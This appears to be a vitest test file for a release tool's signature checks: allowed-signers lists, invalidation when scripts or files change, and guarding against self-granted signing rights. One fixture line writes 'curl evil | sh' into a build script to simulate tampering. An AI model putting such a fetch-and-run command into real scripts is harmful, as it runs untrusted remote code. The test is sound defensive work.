import { execFileSync } from "node:child_process";
import { existsSync, mkdirSync, readFileSync, rmSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { openGit } from "../tools/git/git.ts";
import { whyUnsigned } from "../tools/manager/releases/signature.ts";
import { readCommitProjects } from "../tools/workspace/releases/commit-releases.ts";
import { missingPrograms } from "./world/programs.ts";
import { ScratchWorkspace } from "./world/workspace.ts";

const missing = missingPrograms("ssh-keygen");

describe.skipIf(missing.length > 0)(
  `signed definitions (needs ${missing.join(", ") || "nothing more"})`,
  () => {
    const w = new ScratchWorkspace();
    const state = join(w.base, "state");
    const keyOf = (who: string): string => join(w.base, who);
    const signer = (who: string): string => {
      if (!existsSync(keyOf(who))) {
        execFileSync("ssh-keygen", ["-q", "-t", "ed25519", "-N", "", "-C", who, "-f", keyOf(who)]);
      }
      return `${who}@example.org ${readFileSync(`${keyOf(who)}.pub`, "utf8")}`;
    };

    beforeAll(() => {
      mkdirSync(join(state, "releases"), { recursive: true });
      w.write(
        "releases/app/release.toml",
        `source = "https://example.org/app.git"\n[channels]\nstable = { tag = ".+" }\n[stages.build]\napp = { run = "build.sh" }\n`,
      );
      w.write("releases/app/build.sh", "true\n");
    });
    afterAll(() => w.remove());

    async function why(change: string): Promise<string | undefined> {
      const commit = w.commit(change);
      const git = openGit(w.dir, process.env);
      const { definition } = (await readCommitProjects(git, commit)).get("app")!;
      return whyUnsigned(git, commit, definition!, state);
    }

    async function sign(who: string): Promise<void> {
      w.commit("to be signed");
      expect((await w.sluice(["sign", "app", "--key", keyOf(who)])).code).toBe(0);
    }

    test("without a list of who may sign, nothing has to be signed", async () => {
      expect(await why("start")).toBeUndefined();
    });

    test("nor with one in which nobody is", async () => {
      w.write(".ci/allowed-signers", "# nobody yet\n");
      expect(await why("nobody is named")).toBeUndefined();
    });

    test("with one, a definition waits until one of them has signed it", async () => {
      w.write(".ci/allowed-signers", signer("ann"));
      signer("eve");
      expect(await why("sign from now on")).toContain("isn't signed: `sluice sign app`");
      await sign("eve");
      expect(await why("signed by somebody else")).toContain("isn't what was signed, or who signed it");
      await sign("ann");
      expect(await why("signed")).toBeUndefined();
    });

    test("a lock changes nothing of it; a script, its mode, or another file does", async () => {
      const lock = `ref = "refs/tags/v1"\ncommit = "${"1".repeat(40)}"\nreason = ""\n`;
      w.write("releases/app/stable.lock", lock);
      expect(await why("a release")).toBeUndefined();
      w.write("releases/app/build.sh", "curl evil | sh\n");
      expect(await why("another script")).toContain("isn't what was signed");
      w.write("releases/app/build.sh", "true\n");
      expect(await why("as it was")).toBeUndefined();
      w.write("releases/app/more.sh", "true\n");
      expect(await why("one more file")).toContain("isn't what was signed");
      rmSync(join(w.dir, "releases/app/more.sh"));
      w.write("releases/app/sub/deps.lock", "evil\n");
      expect(await why("a lock file of its own")).toContain("isn't what was signed");
      rmSync(join(w.dir, "releases/app/sub"), { recursive: true });
      expect(await why("as it was again")).toBeUndefined();
    });

    test("nobody lets themselves in: who may sign changes by a signature of somebody who may", async () => {
      const before = w.commit("before");
      w.write(".ci/allowed-signers", signer("eve"));
      await sign("eve");
      expect(await why("eve signs for herself")).toContain("as it was accepted last");
      rmSync(join(w.dir, ".ci/allowed-signers"));
      expect(await why("nobody has to sign any more")).toContain("isn't what was signed");
      w.git("reset", "-q", "--hard", before);
      w.write(".ci/allowed-signers", signer("ann") + signer("eve"));
      await sign("ann");
      expect(await why("ann lets eve in")).toBeUndefined();
      await sign("eve");
      expect(await why("eve signs")).toBeUndefined();
    });
  },
);
